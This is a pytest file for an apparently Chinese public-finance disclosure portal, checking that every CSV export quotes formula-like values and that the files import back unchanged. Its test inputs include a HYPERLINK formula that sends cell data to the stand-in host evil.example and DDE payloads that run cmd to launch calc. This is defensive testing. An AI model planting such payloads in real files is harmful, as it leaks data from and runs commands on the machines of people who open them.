"""Every CSV the portal produces is safe to open in a spreadsheet and imports back unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select
from sqlalchemy.orm import Session

from portal.csvfiles import FORMULA_PREFIXES
from portal.jurisdictions.models import get_region_by_code
from publish.disclosures.importing import COLUMN_NAMES, import_disclosures, read_table
from publish.disclosures.models import Disclosure

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
SOURCES = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CSV_ROUTES = {
    "/disclosures/<int:disclosure_id>.csv",
    "/disclosures/template.csv",
    "/stats.csv",
    "/stats/party-kinds.csv",
    "/staff/admin/institutions/template.csv",
    "/penalties.csv",
    "/performance.csv",
    "/performance/channels.csv",
    "/performance/violation-groups.csv",
    "/staff/performance.csv",
    "/staff/performance/channels.csv",
    "/staff/performance/violation-groups.csv",
    "/supervisors.csv",
}
PERFORMANCE_CSVS = [
    "/performance.csv",
    "/performance/channels.csv",
    "/performance/violation-groups.csv",
]


def _row(year: int, source: str) -> dict[str, str]:
    # A deficit year: the current balance is negative and must stay a number.
    base = dict.fromkeys(COLUMN_NAMES, "")
    base.update(
        region_code="640000",
        year=str(year),
        period="Y",
        fund="all",
        unit="亿元",
        income_total="80.00",
        expenditure_total="100.00",
        balance_current="-20.00",
        balance_accumulated_previous="50.00",
        balance_accumulated="30.00",
        source=source,
    )
    return base


@pytest.fixture
def hostile(db: Session) -> list[int]:
    """Disclosures whose sources are formulas, and a province whose name is one."""
    ids = []
    for year, source in enumerate(SOURCES, start=2020):
        import_disclosures(db, [_row(year, source)], change_note="", actor_id=None)
        ids.append(db.scalar(select(Disclosure.id).where(Disclosure.year == year)))
    get_region_by_code(db, "640000").name_zh = HYPERLINK
    db.commit()
    return ids


def _cells(body: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in line]


def _formulas(cells: list[str]) -> list[str]:
    numbers = [c for c in cells if c.lstrip("+-").replace(".", "", 1).isdigit()]
    return [c for c in cells if c.startswith(FORMULA_PREFIXES) and c not in numbers]


@pytest.mark.parametrize("index", range(len(SOURCES)))
def test_a_disclosure_csv_quotes_a_source_that_is_a_formula(
    client: Any, hostile: list[int], index: int
) -> None:
    cells = _cells(client.get(f"/disclosures/{hostile[index]}.csv").data)
    assert _formulas(cells) == [] and "'" + SOURCES[index] in cells


def test_a_disclosure_csv_keeps_a_negative_balance_a_number(
    client: Any, hostile: list[int]
) -> None:
    rows = list(csv.DictReader(io.StringIO(client.get(f"/disclosures/{hostile[0]}.csv").text)))
    assert rows[0]["balance_current"] == "-20.00"


def test_the_statistics_csv_quotes_a_region_name_that_is_a_formula(
    client: Any, hostile: list[int]
) -> None:
    cells = _cells(client.get("/stats.csv").data)
    assert _formulas(cells) == [] and "'" + HYPERLINK in cells


def test_the_statistics_by_kind_csv_holds_no_formula(client: Any, hostile: list[int]) -> None:
    assert _formulas(_cells(client.get("/stats/party-kinds.csv?region=640000").data)) == []


@pytest.mark.parametrize("index", range(len(SOURCES)))
def test_the_penalty_csv_quotes_an_office_and_number_that_are_formulas(
    client: Any, db: Session, make_staff: Any, index: int
) -> None:
    from tests.penalty_factories import make_institution, published

    make_institution(db)
    published(
        db,
        make_staff("approver"),
        make_staff("publisher"),
        deciding_office=SOURCES[index],
        decision_number=SOURCES[(index + 1) % len(SOURCES)][:100],
    )
    cells = _cells(client.get("/penalties.csv").data)
    assert _formulas(cells) == [] and "'" + SOURCES[index].strip() in cells


@pytest.mark.parametrize("path", PERFORMANCE_CSVS)
def test_the_performance_csvs_quote_a_region_name_that_is_a_formula(
    client: Any, hostile: list[int], path: str
) -> None:
    cells = _cells(client.get(path).data)
    assert _formulas(cells) == [] and "'" + HYPERLINK in cells


@pytest.mark.parametrize("path", PERFORMANCE_CSVS)
def test_the_staff_performance_csvs_quote_a_region_name_that_is_a_formula(
    login_as: Any, make_staff: Any, hostile: list[int], path: str
) -> None:
    approver = login_as(make_staff("approver", region_code="640000"))
    cells = _cells(approver.get(f"/staff{path}?region=640000").data)
    assert _formulas(cells) == [] and any(HYPERLINK in cell for cell in cells)


def test_the_roster_csv_quotes_a_name_and_organisation_that_are_formulas(
    client: Any, db: Session, make_staff: Any
) -> None:
    from datetime import date

    from portal.accounts.supervisors import SupervisorFields, set_supervisor_profile

    supervisor = make_staff(
        "social_supervisor", term_start=date(2020, 1, 1), term_end=date(2099, 12, 31)
    )
    supervisor.display_name = SOURCES[1]
    fields = SupervisorFields("media", HYPERLINK, True, date(2020, 1, 1))
    set_supervisor_profile(db, supervisor, fields, actor="cli")
    db.commit()
    cells = _cells(client.get("/supervisors.csv?region=640000").data)
    assert _formulas(cells) == []
    assert {"'" + HYPERLINK, "'" + SOURCES[1]} <= set(cells)


def test_the_import_template_holds_no_formula(client: Any) -> None:
    assert _formulas(_cells(client.get("/disclosures/template.csv").data)) == []


def test_the_institutions_template_holds_no_formula(login_as: Any, make_staff: Any) -> None:
    admin = login_as(make_staff("administrator"))
    assert _formulas(_cells(admin.get("/staff/admin/institutions/template.csv").data)) == []


def test_every_csv_route_is_checked_here(app: Flask) -> None:
    assert {r.rule for r in app.url_map.iter_rules() if r.rule.endswith(".csv")} == CSV_ROUTES


def test_a_downloaded_disclosure_imports_back_unchanged(
    client: Any, db: Session, hostile: list[int]
) -> None:
    # Imports strip surrounding blanks, so only sources an import can hold go round.
    for disclosure_id, source in zip(hostile, SOURCES, strict=True):
        if source != source.strip():
            continue
        data = client.get(f"/disclosures/{disclosure_id}.csv").data
        result = import_disclosures(db, read_table("back.csv", data), change_note="", actor_id=None)
        assert (result.unchanged, result.revised) == (1, 0)
        assert db.get(Disclosure, disclosure_id).current.source == source
